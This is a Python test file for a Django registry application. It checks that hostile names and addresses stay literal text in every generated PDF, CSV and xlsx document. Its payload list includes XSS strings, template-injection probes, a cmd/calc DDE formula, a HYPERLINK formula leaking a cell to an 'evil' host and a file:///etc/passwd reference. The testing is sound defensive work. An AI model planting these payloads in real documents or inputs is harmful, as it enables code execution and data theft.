"""Hostile names and free text in every kind of document and every export (issue 14's attacks, in CI).

Every kind registered in reports.documents.RENDERERS is built with records whose names and free-text
fields are hostile; the PDF must show them as literal text (escaped, never interpreted: no `49` for
`{{ 7*7 }}`), fetch nothing outside the static files, and every CSV and xlsx cell that begins like a
formula must be neutralised. The kinds come from the registry, so a new kind fails here until it has an
entry in KINDS below: one line naming how to build it (`pdf(...)` or `export(...)`), after any records
its documents need (a `with_...` helper).
"""

import csv
import datetime
import io
import re

import pytest
from django.test import TestCase
from django.utils import timezone
from openpyxl import load_workbook

from incentives import actions as incentives
from members.models import Household, Person, Relation
from reports.actions import request_registry_export
from reports.actions.boards import request_board
from reports.documents import RENDERERS
from reports.models import Document
from tests.factories import make_group
from tests.factories.assessments import make_scheme, publish_scored
from tests.factories.association import make_card, make_member
from tests.factories.incentives import childcare_subsidy
from tests.factories.members import make_household, person_fields
from tests.factories.reports import build_requested, make_designation, make_team
from tests.reports.test_rendering import fetched, pdf_text  # noqa: F401 (fetched: the URL fetcher spy)
from villages.models import SensitiveAccess, Village

LONG_NAME = "王" * 2000
HOSTILE = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil/"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "'\"><img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% debug %}",
    "<link rel=stylesheet href=http://evil/x.css>",
    "<img src=file:///etc/passwd>",
    "\u202eevil\u202c",
    "ctl\x07\x08\x0b\x1bname",
    "\t=1+1",
    "\r=1+1",
]
# What must be read literally in a PDF that prints the village's name.
VILLAGE_NAME = "<b>{{ 7*7 }}</b>{% debug %}"
ALL_TEXT = " ".join(HOSTILE) + " " + LONG_NAME
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def fit(model, field: str, value: str) -> str:
    """The value cut to the field's length (PostgreSQL enforces it; what is kept stays hostile)."""
    length = model._meta.get_field(field).max_length
    return value[:length] if length else value


# Records each kind prints, made hostile.

def hostile_households(village) -> list[Household]:
    """A household per hostile text, its head so named, its address too; and one with a 2,000-character name."""
    households = []
    for number, text in enumerate([*HOSTILE, LONG_NAME], start=1):
        household = make_household(village=village, number=f"H{number:03d}",
                                   people=[person_fields(name="王强", relation=Relation.HEAD)])
        Household.objects.filter(pk=household.pk).update(address=fit(Household, "address", text))
        Person.objects.filter(household=household).update(name=fit(Person, "name", text))
        households.append(household)
    return households


def with_team(c):
    make_team(village=c.village, secretary=fit(Person, "name", HOSTILE[0]), specialist=fit(Person, "name", HOSTILE[5]),
              director=fit(Person, "name", HOSTILE[8]))
    make_designation(village=c.village, plan=ALL_TEXT)


def with_assessment(c):
    publish_scored(scheme=make_scheme(town=c.town), village=c.village, period="Q1", by=c.town_office)


def with_association(c):
    for number, text in enumerate(HOSTILE[:4], start=1):
        member = make_member(group=make_group(village=c.village, number=number + 10), name=f"会员{number}")
        member.__class__.objects.filter(pk=member.pk).update(name=fit(member.__class__, "name", text))
        for household in make_card(member, 1):
            Person.objects.filter(household=household).update(name=fit(Person, "name", HOSTILE[-5 + number]))


def with_paid_benefits(c):
    make_household(group=make_group(village=c.village, number=31), people=[
        person_fields(name="王强", relation=Relation.HEAD),
        person_fields(name="李芳", sex="F", born=datetime.date(1990, 1, 1), relation=Relation.WIFE),
        person_fields(name="王小一", born=datetime.date(2024, 2, 1), relation=Relation.SON, with_id=False)])
    cycle = incentives.open_cycle(policy=childcare_subsidy(c.town), period="2025", by=None)
    incentives.compute_cycle(cycle=cycle, by=None)
    entitlement = cycle.entitlements.get(village=c.village)
    incentives.confirm_entitlements(cycle=cycle, village=c.village, by=None)
    incentives.approve_cycle(cycle=cycle, by=None)
    incentives.record_payment(cycle=cycle, village=c.village, paid_on=timezone.localdate(), method="card",
                              reference="R1", amount=entitlement.amount, by=None)
    for name, text in (("王强", HOSTILE[1]), ("李芳", HOSTILE[6]), ("王小一", HOSTILE[9])):
        Person.objects.filter(household__village=c.village, name=name).update(name=fit(Person, "name", text))


# How each kind is built: after the records above, as the user, for the village (or None: the town) and period.

def pdf(*, setup=None, user="town_office", village=True, period="2025"):
    def build(c) -> list[Document]:
        if setup:
            setup(c)
        return [build_requested(kind=c.kind, requested_by=getattr(c, user), village=c.village if village else None,
                                period=period)]
    return build


def board(*, setup=None, period="2025"):
    def build(c) -> list[Document]:
        if setup:
            setup(c)
        with TestCase.captureOnCommitCallbacks(execute=True):
            publication = request_board(village=c.village, requested_by=c.town_office, period=period)
        publication.document.refresh_from_db()
        return [publication.document]
    return build


def export(*, user="town_office"):
    def build(c) -> list[Document]:
        documents = []
        for fmt in ("csv", "xlsx"):
            with TestCase.captureOnCommitCallbacks(execute=True):
                document = request_registry_export(requested_by=getattr(c, user), fmt=fmt, filters={})
            document.refresh_from_db()
            documents.append(document)
        return documents
    return build


KINDS = {
    "status_sheet": pdf(setup=with_team),
    "quarterly_assessment": pdf(setup=with_assessment, village=False, period="2025Q1"),
    "member_contact_cards": pdf(setup=with_association, period=""),
    "association_roster": pdf(setup=with_association, period=""),
    "payout_sheet": pdf(setup=with_paid_benefits, user="specialist"),
    "benefit_board": pdf(setup=with_paid_benefits),
    "registry_export": export(),
    "disclosure_board": board(setup=with_paid_benefits),
    "annual_summary": pdf(setup=with_team, village=False),
}


def test_every_kind_of_document_has_a_hostile_fixture():
    missing = sorted(set(RENDERERS) - set(KINDS))
    assert not missing, f"Add these kinds to KINDS in {__file__}: {missing}"


class World:
    pass


@pytest.fixture
def world(town, village, town_office, specialist):
    Village.objects.filter(pk=village.pk).update(name=fit(Village, "name", VILLAGE_NAME))
    village.refresh_from_db()
    hostile_households(village)
    c = World()
    c.town, c.village, c.town_office, c.specialist = town, village, town_office, specialist
    return c


def plain(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("kind", sorted(RENDERERS))
def test_hostile_names_stay_text_in_every_kind(kind, world, fetched, client):  # noqa: F811
    build = KINDS.get(kind)
    if build is None:
        pytest.fail(f"No hostile fixture for the kind {kind!r}: add it to KINDS")
    world.kind = kind
    documents = build(world)

    for document in documents:
        assert document.status == Document.Status.DONE, document.error
        client.force_login(document.requested_by)
        response = client.get(f"/documents/{document.pk}/download/")
        assert response.status_code == 200
        content = b"".join(response.streaming_content)
        assert client.get(f"/documents/{document.pk}/").status_code == 200
        if document.file_format == "pdf":
            check_pdf(document)
        else:
            check_spreadsheet(document.file_format, content)
    assert not [url for url in fetched if "evil" in url or "passwd" in url or url.startswith(("http", "ftp"))]


def check_pdf(document):
    text = pdf_text(document)
    for code in (document.verification_code, document.display_code, document.sha256):
        text = text.replace(code, "")
    text = re.sub(r"https?://\S+", "", text)
    squeezed = plain(text)
    assert "<b>49</b>" not in squeezed, "{{ 7*7 }} was evaluated"  # the village's name would read so
    assert plain("{{7*7}}") in squeezed.replace(" ", "")
    assert "{%debug%}" in squeezed
    assert "<b>" in squeezed  # the village's name, printed as written


def check_spreadsheet(fmt, content: bytes):
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        values = [cell.value for cell in cells if isinstance(cell.value, str)]
    else:
        values = [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for value in row]
    assert not [value for value in values if value.startswith(FORMULA_STARTS)]
    flat = " ".join(values)
    for text in ("<script>alert(1)</script>", "{{ 7*7 }}", "{% debug %}", "'=HYPERLINK", "'@SUM(1)", "'-1+1"):
        assert text in flat
    assert LONG_NAME[:50] in flat
    assert SensitiveAccess.objects.filter(action="export").exists()
